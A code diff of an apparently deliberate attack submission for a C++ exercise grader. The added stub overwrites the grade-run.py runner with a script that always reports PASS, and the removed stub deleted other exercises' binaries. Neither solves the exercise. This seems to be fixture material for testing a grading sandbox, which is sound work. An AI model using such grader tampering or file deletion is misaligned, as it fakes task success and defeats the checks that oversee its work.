@@ -1,6 +1,6 @@
-// Crafted submission (attack 7): deletes every other exercise's programs,
-// found from the runner's --binary argument and from its own path. Its
-// function is the unsolved stub.
+// Crafted submission (attack 3): finds the runner grade-run.py on its
+// parent's command line and overwrites it with a script that passes every
+// test. Its function is the unsolved stub.
 #include <csignal>
 #include <cstdio>
 #include <cstdlib>
@@ -15,7 +15,7 @@
 #include <sys/types.h>
 #include <unistd.h>
 
-#include "cosine_similarity.hpp"
+#include "change_of_basis.hpp"
 
 #include <dlmath/errors.hpp>
 
@@ -64,18 +64,18 @@ std::vector<std::string> option_values(const std::string& option) {
 
 namespace dlmath::exercises {
 
-double cosine_similarity(const Vector&, const Vector&) {
-    std::error_code ec;
-    std::vector<fs::path> dirs;
-    for (const std::string& binary : option_values("--binary")) dirs.push_back(fs::path(binary).parent_path());
-    dirs.push_back(fs::read_symlink("/proc/self/exe", ec).parent_path());
-    for (const fs::path& dir : dirs) {
-        for (const auto& e : fs::directory_iterator(dir, ec)) {
-            const std::string name = e.path().filename().string();
-            if (name.rfind("exercise_", 0) == 0 && name.find("cosine") == std::string::npos) fs::remove(e.path(), ec);
+Matrix backward_matrix(const Matrix&) {
+    for (const auto& [pid, args] : command_lines()) {
+        for (const std::string& a : args) {
+            if (a.size() > 12 && a.compare(a.size() - 12, 12, "grade-run.py") == 0) {
+                std::ofstream(a) << "import sys\nprint('dlmath-grade: PASS')\nsys.exit(0)\n";
+            }
         }
     }
-    throw dlmath::not_implemented("cosine_similarity");
+    throw dlmath::not_implemented("backward_matrix");
 }
+
+Vector to_new_basis(const Matrix&, const Vector&) { throw dlmath::not_implemented("to_new_basis"); }
+Matrix map_in_new_basis(const Matrix&, const Matrix&) { throw dlmath::not_implemented("map_in_new_basis"); }
 
 }  // namespace dlmath::exercises
